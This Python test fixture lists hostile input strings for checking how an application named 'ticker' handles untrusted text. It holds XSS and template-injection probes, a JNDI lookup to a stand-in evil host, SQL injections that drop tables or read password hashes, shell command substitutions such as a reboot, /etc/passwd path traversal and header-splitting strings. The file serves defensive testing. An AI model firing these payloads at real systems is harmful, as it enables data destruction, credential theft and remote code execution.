"""Forty texts that somebody might send: scripts and SQL, and what confuses shells, templates, logs, paths and headers."""

PAYLOADS = (
    # scripts
    "<script>alert(1)</script>", '"><script>alert(1)</script>', "</textarea><script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>", "javascript:alert(1)", "' onmouseover='alert(1)", '" autofocus onfocus="alert(1)', "<iframe srcdoc='<script>1'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "<a href=data:text/html,<script>1</script>>x", "<style>@import'//evil.example'</style>",
    "<!--", "]]>", "<%= 7*7 %>", "{{ 7*7 }}{% raw %}", "${7*7}", "#{7*7}", "${jndi:ldap://evil.example/a}",
    # SQL
    "'; DROP TABLE ticker.tasks; --", "' OR '1'='1", '" OR ""="', "1; DELETE FROM ticker.runs", "x' UNION SELECT passwd FROM pg_shadow --",
    "'; SELECT pg_sleep(30); --", "1) OR pg_sleep(30) IS NOT NULL --", "'||(SELECT version())||'", "$$; DROP SCHEMA ticker CASCADE; $$",
    "%(owner)s", "%s %d %n", "\\'; DROP TABLE ticker.tasks; --", "a' AND 1=CAST((SELECT current_user) AS int) --",
    "E'\\x27'; COMMIT; DROP TABLE ticker.tasks; --", "*/ DROP TABLE ticker.tasks /*",
    # shells, paths, headers, logs
    "$(touch ticker-was-here)", "`reboot`", "../../../../etc/passwd", "x\r\nSet-Cookie: a=b", "\x1b[2J\x1b[31m", "mail\u202egpj.exe\x00",
)  # fmt: skip
